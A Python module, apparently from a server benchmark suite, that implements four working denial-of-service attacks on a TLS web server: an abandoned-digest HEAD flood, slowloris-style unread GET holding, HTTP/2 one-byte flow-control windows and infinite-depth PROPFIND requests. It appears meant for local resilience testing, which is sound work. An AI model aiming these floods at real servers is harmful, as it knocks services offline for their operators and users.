"""Attackers of a server over TLS, each a program of its own.

    python -m bench.server.attackers NAME HOST PORT SECONDS CGROUP

They enter the cgroup, or take the lowest priority if its name is empty, print a line when the
attack has begun, and go on for some seconds. Their address is 127.0.0.2, as attackers do not come
from the client's.
"""

import os
import resource
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

WORKERS = 8
"""Connections that are opened at a time."""
BEGIN_SECONDS = 20
"""Time after which an attack counts as begun: a server with a limit never takes all connections."""
TIMEOUT_SECONDS = 5
"""Bound on the handshake and each call: a full server may accept no more."""


def get(path: str, fields: str = "", method: str = "GET") -> bytes:
    return f"{method} {path} HTTP/1.1\r\nHost: localhost\r\n{fields}\r\n".encode()


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2 (RFC 9113)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def preface(window: int) -> bytes:
    """The begin of an HTTP/2 connection whose streams have a window of `window` bytes."""
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, struct.pack(">HI", 4, window))


def get_frame(stream: int, path: bytes, scheme: bytes = b"\x86") -> bytes:
    fields = b"\x82" + scheme + b"\x44" + bytes([len(path)]) + path + b"\x41\x09localhost"
    return frame(1, 5, stream, fields)


def connect(address: tuple[str, int], protocol: str = "http/1.1", source: str = "127.0.0.2") -> socket.socket:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context.wrap_socket(socket.create_connection(address, TIMEOUT_SECONDS, (source, 0)))


def is_open(connection: socket.socket | None) -> bool:
    if connection is None:
        return False
    try:
        # Encrypted bytes, which stay where they are.
        peeked = socket.fromfd(connection.fileno(), socket.AF_INET, socket.SOCK_STREAM)
        with peeked:
            return peeked.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def hold(opens: Callable[[], socket.socket], count: int, end: float) -> None:
    """Keeps `count` connections, of which nothing is read; those that end are opened again."""

    def one(_: object) -> socket.socket | None:
        try:
            return opens()
        except OSError:
            return None

    connections: list[socket.socket | None] = [None] * count
    with ThreadPoolExecutor(WORKERS) as workers:
        begins = time.monotonic() + BEGIN_SECONDS
        has_begun = False
        while time.monotonic() < end:
            ended = [index for index, it in enumerate(connections) if not is_open(it)]
            for first in range(0, len(ended), WORKERS):
                some = ended[first : first + WORKERS]
                for index, it in zip(some, workers.map(one, some), strict=True):
                    connections[index] = it
                if not has_begun and (some[-1] == count - 1 or time.monotonic() > begins):
                    has_begun = True
                    print("begun", flush=True)
            time.sleep(0.2)


def abandon(address: tuple[str, int], end: float) -> None:
    """48 requests at a time for the checksum of 40 GB, each closed after 50 ms."""
    print("begun", flush=True)
    request = get("/huge", "Want-Digest: sha-256\r\nWant-Repr-Digest: sha-256=9\r\n", "HEAD")
    with ThreadPoolExecutor(48) as workers:

        def one(_: int) -> None:
            while time.monotonic() < end:
                try:
                    with connect(address) as connection:
                        connection.sendall(request)
                        time.sleep(0.05)
                except OSError:
                    pass

        list(workers.map(one, range(48)))


def read_nothing(address: tuple[str, int], end: float) -> None:
    """1,100 GETs of a large file, of which nothing is read."""

    def opens() -> socket.socket:
        connection = connect(address)
        connection.sendall(get("/large"))
        return connection

    hold(opens, 1100, end)


def grant_one_byte(address: tuple[str, int], end: float) -> None:
    """Ten HTTP/2 connections with 128 GETs each, whose windows have one byte."""
    streams = b"".join(get_frame(2 * n + 1, b"/large", b"\x87") for n in range(128))

    def opens() -> socket.socket:
        connection = connect(address, "h2")
        connection.sendall(preface(1) + streams)
        return connection

    hold(opens, 10, end)


def list_everything(address: tuple[str, int], end: float) -> None:
    """150 PROPFINDs of infinite depth on 95,000 names, of which nothing is read."""

    def opens() -> socket.socket:
        connection = connect(address)
        connection.sendall(get("/names/", "Depth: infinity\r\nContent-Length: 0\r\n", "PROPFIND"))
        return connection

    hold(opens, 150, end)


ATTACKS = {attack.__name__: attack for attack in (abandon, read_nothing, grant_one_byte, list_everything)}


if __name__ == "__main__":
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(8192, hard), hard))
    name, host, port, seconds, group = sys.argv[1:]
    if group:
        (Path(group) / "cgroup.procs").write_text(str(os.getpid()))
    else:
        os.nice(19)
    ATTACKS[name]((host, int(port)), time.monotonic() + float(seconds))
